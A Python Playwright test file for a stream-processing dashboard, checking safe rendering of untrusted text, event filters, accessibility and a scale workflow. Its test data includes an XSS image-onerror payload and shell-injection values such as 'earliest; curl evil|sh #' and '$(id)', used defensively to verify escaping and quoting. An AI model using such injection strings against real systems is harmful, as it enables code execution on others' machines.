"""What pages show whatever is put into them, to whoever reads them, and how a change is made."""

from __future__ import annotations

import json
import re
import subprocess
from contextlib import closing
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pyarrow as pa
import pytest
from playwright.sync_api import Page, Route, expect

from anabranch.config import EmbeddedSettings, Settings, SystemsSettings
from anabranch.coordinator.api.operations import Operations
from anabranch.coordinator.store import Event
from anabranch.protocol.commands import ScaleRequest
from anabranch.systems.records import RECORD_SCHEMA
from anabranch.systems.systems import Systems
from tests.dashboard.conftest import PAGES, SLOWEST, Visit, settled
from tests.dashboard.played import FACTOR, HOSTILE, Played

expect.set_options(timeout=SLOWEST)
AXE = Path(__file__).parents[2] / "dashboard" / "node_modules" / "axe-core" / "axe.min.js"


def test_text_from_outside_is_text(played: Played, visit: Visit) -> None:
    played.fields = {0: {"trouble": HOSTILE, "slowest": HOSTILE, "held_by": HOSTILE, "warnings": (HOSTILE,)}}
    played.beat()
    played.coordinator.fence(played.containers[1].me.container, HOSTILE)
    page = visit(played.url)
    plain = "(() => document.querySelectorAll('main :is(img, script, iframe, object, embed, base, meta)').length)()"
    for address in (*PAGES, f"#/jobs/delays/lanes/{played.lanes[0].id}", "#/jobs/%3Cimg%20src=x%3E"):
        settled(page, address)
        assert page.evaluate(plain) == 0, address
    assert page.evaluate("window.attacked") is None
    settled(page, f"#/jobs/delays/lanes/{played.lanes[0].id}")
    expect(page.locator("main")).to_contain_text('<img src=x onerror="window.attacked=1">')
    expect(page.locator("main")).to_contain_text("\\u202e")
    assert "\u202e" not in page.locator("main").inner_text()


def test_a_dead_letter_is_shown_as_what_it_is_and_where_it_came_from(tmp_path: Path, visit: Visit) -> None:
    """Nothing, an empty text and bytes that are none are told apart; and markup is text."""
    systems = Systems(Settings(systems=SystemsSettings(embedded=EmbeddedSettings(root=tmp_path / "streams"))), "delays")
    system = systems.named("embedded")
    system.create("flights-dead-letters", 1)
    said = {"error": f"ValueError: {HOSTILE}", "operator": "map", "stream": "flights", "partition": "3", "offset": "9"}
    headers = [{"key": f"anabranch.{name}", "value": text.encode()} for name, text in said.items()]
    contents = [(None, b""), (HOSTILE.encode(), HOSTILE.encode()), (b"AA12", b"\xff\x00")]
    at = datetime(2026, 11, 26, tzinfo=UTC)
    rows = [{"key": key, "value": value, "headers": headers, "timestamp": at} for key, value in contents]
    with closing(system.appender("flights-dead-letters")) as appender:
        appender.append(pa.RecordBatch.from_pylist(rows, schema=RECORD_SCHEMA))
    played = Played(tmp_path, systems=systems)
    try:
        page = visit(f"{played.url}#/jobs/delays/dead-letters")
        letters = page.locator(".letters li")
        expect(letters).to_have_count(3)
        expect(letters.nth(0)).to_contain_text("ff 00")
        expect(letters.nth(1)).to_contain_text('<img src=x onerror="window.attacked=1">')
        expect(letters.nth(2)).to_contain_text("no key")
        expect(letters.nth(2)).to_contain_text("value empty")
        expect(letters.nth(2)).to_contain_text("came from flights/3, offset 9")
        assert page.evaluate("document.querySelectorAll('main :is(img, script)').length") == 0
        assert page.evaluate("window.attacked") is None
    finally:
        played.close()


@pytest.mark.parametrize(
    ("to", "line"),
    [
        ("earliest", "--to earliest"),
        ("2026-11-25 02:00", "--to '2026-11-25 02:00'"),
        ("earliest; curl evil|sh #", "--to 'earliest; curl evil|sh #'"),
        ("$(id) `id` 'x' \\", """--to '$(id) `id` '"'"'x'"'"' \\'"""),
        ("it's\\\u202e\x03x", r"--to $'it\x27s\x5c\u202e\u0003x'"),
        ("x'; echo more #\u200b", r"--to $'x\x27; echo more #\u200b'"),
    ],
)
@pytest.mark.suite(cases=2)
def test_what_is_in_a_line_for_the_shell_is_one_word(played: Played, visit: Visit, to: str, line: str) -> None:
    """Whatever the address says, as somebody copies it. A shell that doesn't know $'…' may read another word."""
    page = visit(f"{played.url}#/jobs/delays/changes/new?{urlencode({'kind': 'rewind', 'to': to})}")
    shown = page.get_by_label("the same on the command line")
    expect(shown).to_have_value(f"anabranch rewind delays {line}")
    command = f"printf '%s\\n' {shown.input_value()}"
    words = ["anabranch", "rewind", "delays", "--to"]
    for shell in ("bash", "sh"):
        read = subprocess.run([shell, "-c", command], capture_output=True, check=True, env={"LC_ALL": "C.UTF-8"})
        *others, last = read.stdout.decode().splitlines()
        assert (others, read.stderr) == (words, b"")
        assert last == to or (shell == "sh" and "$'" in line)


def test_events_are_those_of_the_command_line(played: Played, visit: Visit) -> None:
    played.coordinator.fence(played.containers[1].me.container, "out of order")
    page = visit(f"{played.url}#/jobs/delays/events", timezone_id="Asia/Kolkata")
    settled(page)
    page.keyboard.press("u")
    expect(page.get_by_label("time zone")).to_have_value("UTC")
    events = played.coordinator.events("delays", 100)
    expect(page.locator(".log [data-row]")).to_have_count(len(events))
    lines = [" ".join(text.split()) for text in page.locator(".log [data-row]").all_inner_texts()]
    for event, line in zip(reversed(events), lines, strict=True):
        at = datetime.fromtimestamp(event.at, UTC)
        why = f": {event.why}" if event.why else ""
        assert line.startswith(f"{at:%Y-%m-%d %H:%M:%S} ")
        assert f"{event.who} {event.what}{why}" in line
    page.goto(f"{played.url}#/jobs/delays/events?to=2020-01-01T00:00:00Z")
    expect(page.locator("main")).to_contain_text("No event fits the filters")


def test_the_last_minutes_are_one_click(played: Played, visit: Visit) -> None:
    now = played.coordinator.registry.now()
    for what, minutes in (("long ago", 30), ("just now", 10)):
        played.store.note([Event(kind="other", job="delays", at=now - 60 * minutes, who="somebody", what=what)])
    page = visit(f"{played.url}#/jobs/delays/events")
    log = page.locator(".log")
    expect(log).to_contain_text("long ago")
    page.get_by_role("button", name="last 20 minutes").click()
    expect(log).to_contain_text("just now")
    expect(log).not_to_contain_text("long ago")
    page.get_by_role("button", name="last 3 hours").click()
    expect(log).to_contain_text("long ago")


def test_events_that_repeat_each_other_are_one_row(played: Played, visit: Visit) -> None:
    now = played.coordinator.registry.now()

    def noted(*said: str) -> None:
        played.store.note(
            Event(kind="other", job="delays", at=now + at, who="somebody", what=what) for at, what in enumerate(said)
        )

    noted("lane 0-aa1 waits 1 s", "lane 0-aa2 waits 2 s", "lane 0-aa1 waits 3 s", "no more", "lane 0-aa1 waits 4 s")
    page = visit(f"{played.url}#/jobs/delays/events")
    rows = page.locator(".log [data-row]").filter(has_text="somebody")
    expect(rows).to_have_count(3)
    expect(rows.nth(2)).to_contain_text("waits 3 s")
    repeats = rows.nth(2).get_by_role("button", name="2 like it")
    repeats.click()
    expect(rows).to_have_count(5)
    expect(rows.nth(4)).to_contain_text("waits 1 s")
    link = rows.nth(4).get_by_role("link").first
    link.click()
    expect(page.locator(".log .selected")).to_contain_text("waits 1 s")
    again = visit(page.url)
    expect(again.locator(".log .selected")).to_contain_text("waits 1 s")  # it isn't hidden behind its like
    expect(repeats).to_have_attribute("aria-expanded", "true")
    repeats.click()
    expect(rows).to_have_count(3)


def test_filters_of_events_keep_the_focus_and_what_is_typed(played: Played, visit: Visit) -> None:
    """A moment is typed digit by digit, and counts once it is typed to the end."""
    page = visit(f"{played.url}#/jobs/delays/events", timezone_id="UTC", locale="en-US")
    settled(page)
    kind = page.get_by_label("kind")
    kind.focus()
    page.keyboard.press("ArrowDown")
    page.wait_for_url("**kind=autoscale*")
    settled(page)
    expect(kind).to_be_focused()
    kind.select_option("")
    settled(page)
    page.evaluate("document.activeElement.blur()")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url) if "/events?" in request.url else None)
    field = page.get_by_label("from, in UTC")
    field.focus()
    for digit in "11252026":
        page.keyboard.type(digit)
        played.store.note([Event(kind="other", job="delays", at=1.0, who="somebody", what=f"{digit} was typed")])
        read_on(page)
    page.keyboard.type("024500AM")
    expect(field).to_be_focused()
    assert "from=" not in page.url
    assert not [url for url in asked if "from=" in url]
    page.keyboard.press("Enter")
    page.wait_for_url("**from=2026-11-25T02%3A45%3A00Z*")
    settled(page)
    expect(field).to_be_focused()
    expect(field).to_have_value("2026-11-25T02:45")


def test_a_moment_before_1970_is_no_filter(played: Played, visit: Visit) -> None:
    page = visit(f"{played.url}#/jobs/delays/events?from=2026-01-01T00:00:00Z", timezone_id="UTC")
    rows = page.locator(".log [data-row]")
    expect(rows).not_to_have_count(0)
    field = page.get_by_label("from, in UTC")
    field.fill("0002-11-25T02:45:00")
    field.blur()
    expect(field).to_have_value("2026-01-01T00:00")
    assert "from=2026-01-01" in page.url
    settled(page, "#/jobs/delays/events?from=0002-11-25T02:45:00Z&to=0002-11-25T02:45:00Z")
    expect(rows).not_to_have_count(0)
    expect(page.get_by_role("alert")).to_have_count(0)
    expect(field).to_have_value("")


@pytest.mark.parametrize(
    ("zone", "typed", "utc"),
    [
        ("America/New_York", "2026-03-08T02:30:00", "2026-03-08T07:30:00Z"),
        ("Europe/Berlin", "2026-03-29T02:30:00", "2026-03-29T01:30:00Z"),
        ("Europe/Berlin", "2026-10-25T02:30:00", "2026-10-25T00:30:00Z"),
    ],
)
def test_a_moment_in_the_night_of_the_clock_change(
    played: Played, visit: Visit, zone: str, typed: str, utc: str
) -> None:
    """What clocks skip is taken by the clock before; of what comes twice, the first."""
    page = visit(f"{played.url}#/jobs/delays/events", timezone_id=zone)
    page.get_by_label(f"from, in {zone}").fill(typed)
    page.wait_for_url(f"**from={utc.replace(':', '%3A')}*")


def test_more_new_events_than_are_shown_are_announced_and_not_pushed_in(played: Played, visit: Visit) -> None:
    now = played.coordinator.registry.now()

    def noted(word: str, after: float, number: int) -> None:
        played.store.note(
            Event(kind="other", job="delays", at=now + after + at / 1000, who="somebody", what=f"{word} {at}")
            for at in range(number)
        )

    noted("old", 0, 600)
    page = visit(f"{played.url}#/jobs/delays/events?each=1")
    rows, fresh = page.locator(".log [data-row]"), page.locator("button.fresh")
    expect(rows.first).to_contain_text("old 599")
    shown = rows.count()
    for word, number, announced in (("new", 300, "300 new events"), ("newer", 300, "at least 500 new events")):
        noted(word, 1 if word == "new" else 2, number)
        read_on(page)
        expect(fresh).to_have_text(announced)
        expect(rows.first).to_contain_text("old 599")
        expect(rows).to_have_count(shown)
    fresh.click()
    expect(rows.first).to_contain_text("newer 299")
    expect(fresh).to_have_count(0)


def test_dead_letters_are_grouped_whatever_their_errors_say(played: Played, visit: Visit) -> None:
    """An emoji where the name of a group is cut, and half of one; and each stream has groups of its own."""
    cut, broken = "x" * 119 + "\U0001f600 bad value", "half \ud83d of it"
    errors = {"one": [cut, cut, broken], "two": ["KeyError"] * 4}

    def answered(route: Route) -> None:
        stream = "two" if "stream=two" in route.request.url else "one"
        of = {"partition": 0, "at": 1_795_903_466_000, "operator": "map", "origin": None, "key": None, "value": None}
        letters = [{**of, "offset": at, "error": error, "headers": {}} for at, error in enumerate(errors[stream])]
        found = {"at": 1_795_903_466.0, "streams": ["one", "two"], "stream": stream, "letters": letters}
        route.fulfill(body=json.dumps({**found, "before": {}, "partly": False}), content_type="application/json")

    page = visit("about:blank")
    page.route("**/dead-letters*", answered)
    page.goto(f"{played.url}#/jobs/delays/dead-letters")
    letters, groups = page.locator(".letters li"), page.get_by_label("error and operator")
    for group, number in ((1, 2), (2, 1)):
        expect(letters).to_have_count(3)
        groups.select_option(index=group)
        expect(letters).to_have_count(number)
        groups.select_option("")
    page.get_by_label("stream").select_option("two")
    expect(letters).to_have_count(4)
    groups.select_option(index=1)
    page.get_by_label("stream").select_option("one")
    expect(letters).to_have_count(3)
    assert "group=" not in page.url


@pytest.mark.parametrize("leader", [None, "http://127.0.0.1:9"])
def test_a_job_that_nobody_serves_needs_attention(played: Played, visit: Visit, leader: str | None) -> None:
    finding = {"severity": "attention", "rule": "no-leader", "subject": {"job": "delays"}, "what": "nobody serves it"}
    finding |= {"why": "", "figures": {}, "cure": "", "since": None}

    def answered(route: Route) -> None:
        found = route.fetch().json()
        (job,) = found["jobs"]
        job |= {"served": False, "containers": None, "lag": None, "rows": None, "worst": finding}
        route.fulfill(json={**found, "leads": False, "leader": leader})

    page = visit("about:blank")
    page.route("**/overview", answered)
    page.goto(f"{played.url}#/")
    expect(page.locator("[data-row='delays']")).to_contain_text("nobody serves it")
    expect(page.get_by_role("region", name="All jobs")).to_contain_text("1 needs attention")
    banner = page.locator("main .banner")
    expect(banner).to_contain_text("This coordinator doesn't lead")
    expect(banner.get_by_role("link")).to_have_count(0 if leader is None else 1)


def test_what_systems_are_asked_for_is_waited_for_and_asked_for_again_by_hand(played: Played, visit: Visit) -> None:
    """It takes them up to a minute, and each time costs them something."""
    page = visit("about:blank")
    page.add_init_script(
        "const real = AbortSignal.timeout.bind(AbortSignal);"
        "AbortSignal.timeout = (ms) => real(ms === 75000 ? 1500 : ms)"
    )
    found = {"at": 1.0, "streams": ["one"], "stream": "one", "letters": [], "before": {}, "partly": False}
    asked: list[Route] = []

    def answered(route: Route) -> None:
        asked.append(route)
        if len(asked) > 1:
            route.fulfill(json=found)

    page.route("**/dead-letters*", answered)
    page.goto(f"{played.url}#/jobs/delays/dead-letters")
    problem = page.get_by_role("alert")
    expect(problem).to_contain_text("there was no answer within 75 s")
    expect(page.locator(".banner")).to_have_count(0)
    read_on(page)
    page.wait_for_timeout(2_500)
    assert len(asked) == 1
    problem.get_by_role("button", name="try again").click()
    expect(page.get_by_text("None is there.")).to_be_visible()
    read_on(page)
    page.wait_for_timeout(500)
    assert len(asked) == 2
    with page.expect_response("**/dead-letters*"):
        page.get_by_role("button", name="look again").click()
    assert len(asked) == 3


def test_what_can_be_chosen_is_shown_as_it_is(played: Played, visit: Visit) -> None:
    of = {"partition": 0, "offset": 1, "at": 1_795_903_466_000, "operator": HOSTILE, "error": HOSTILE, "headers": {}}
    letters = [{**of, "origin": None, "key": None, "value": None}]
    found = {"at": 1.0, "streams": [HOSTILE], "stream": HOSTILE, "letters": letters, "before": {}, "partly": False}
    page = visit("about:blank")
    page.route("**/dead-letters*", lambda route: route.fulfill(json=found))
    page.goto(f"{played.url}#/jobs/delays/dead-letters")
    expect(page.locator(".letters li")).to_have_count(1)
    choices = page.locator("main option").all_text_contents()
    assert [text.count("\\u202e") for text in choices] == [1, 0, 2]
    assert "\u202e" not in "".join(choices)
    expect(page.get_by_label("stream")).to_have_value(HOSTILE)


def test_no_value_of_a_record_comes_into_the_address(played: Played, visit: Visit) -> None:
    error = "ValueError: could not convert string to float: '4111 1111 1111 1111'"
    of = {"partition": 0, "at": 1_795_903_466_000, "operator": "map", "origin": None, "key": None, "value": None}
    letters = [{**of, "offset": at, "error": said, "headers": {}} for at, said in enumerate((error, "KeyError"))]
    found = {"at": 1_795_903_466.0, "streams": ["one"], "stream": "one", "letters": letters}
    page = visit("about:blank")
    page.route("**/dead-letters*", lambda route: route.fulfill(json={**found, "before": {}, "partly": False}))
    page.goto(f"{played.url}#/jobs/delays/dead-letters")
    page.get_by_label("error and operator").select_option(label=f"1 × map: {error}")
    expect(page.locator(".letters li")).to_have_count(1)
    assert "group=" in page.url
    assert not re.search("4111|Value|map", page.url)
    page.reload()
    expect(page.locator(".letters li")).to_have_text(re.compile("4111"))


@pytest.mark.parametrize("scheme", ["light", pytest.param("dark", marks=pytest.mark.long)])
def test_no_page_keeps_anybody_out(played: Played, visit: Visit, scheme: str) -> None:
    """Nothing that axe calls serious, in either theme."""
    page = visit(played.url, color_scheme=scheme)
    page.evaluate(AXE.read_text(encoding="utf-8"))
    for address in PAGES:
        settled(page, address)
        found = page.evaluate("axe.run(document, {resultTypes: ['violations']})")
        serious = [
            (each["id"], [node["html"][:160] for node in each["nodes"]][:3])
            for each in found["violations"]
            if each["impact"] in ("serious", "critical")
        ]
        assert serious == [], address


def test_a_narrow_page_is_not_wider_than_the_screen(played: Played, visit: Visit) -> None:
    page = visit(played.url, viewport={"width": 320, "height": 640})
    for address in PAGES:
        settled(page, address)
        assert page.evaluate("document.documentElement.scrollWidth") <= 320, address


def test_a_scale_is_planned_shown_and_applied_once_to_what_it_was_planned_for(played: Played, visit: Visit) -> None:
    asked = ScaleRequest(factor=2 * FACTOR, dry=True, brief=True)
    plan = played.coordinator.call(Operations.scale, "delays", asked)
    assert plan.outline is not None
    page = visit(f"{played.url}#/jobs/delays/changes/new?kind=scale")
    page.get_by_label("factor").select_option(str(2 * FACTOR))
    figures = page.locator("main .facts").first
    expect(figures).to_contain_text(f"closes {len(plan.outline.closing)}, starts {len(plan.outline.starting)}")
    expect(figures).to_contain_text(f"≈ {plan.pause:.1f} s")
    expect(page.get_by_label("the same on the command line")).to_have_value("anabranch scale delays --factor 8")
    sent: list[Any] = []
    page.on("request", lambda request: sent.append(request.post_data_json) if request.method == "POST" else None)
    page.get_by_role("button", name="Apply to generation 1").dblclick()
    page.wait_for_url("**/changes")
    assert plan.basis is not None
    applied = [body for body in sent if not body.get("dry")]
    assert [body["expect"] for body in applied] == [{"deployment": 1, "generation": 1, "digest": plan.basis.digest}]
    status = played.coordinator.status("delays")
    assert (status.generation, status.factor) == (2, 2 * FACTOR)
    expect(page.locator("main")).to_contain_text("to generation 2")


def read_on(page: Page) -> None:
    """The page asks for what is new."""
    page.evaluate("document.dispatchEvent(new Event('visibilitychange'))")
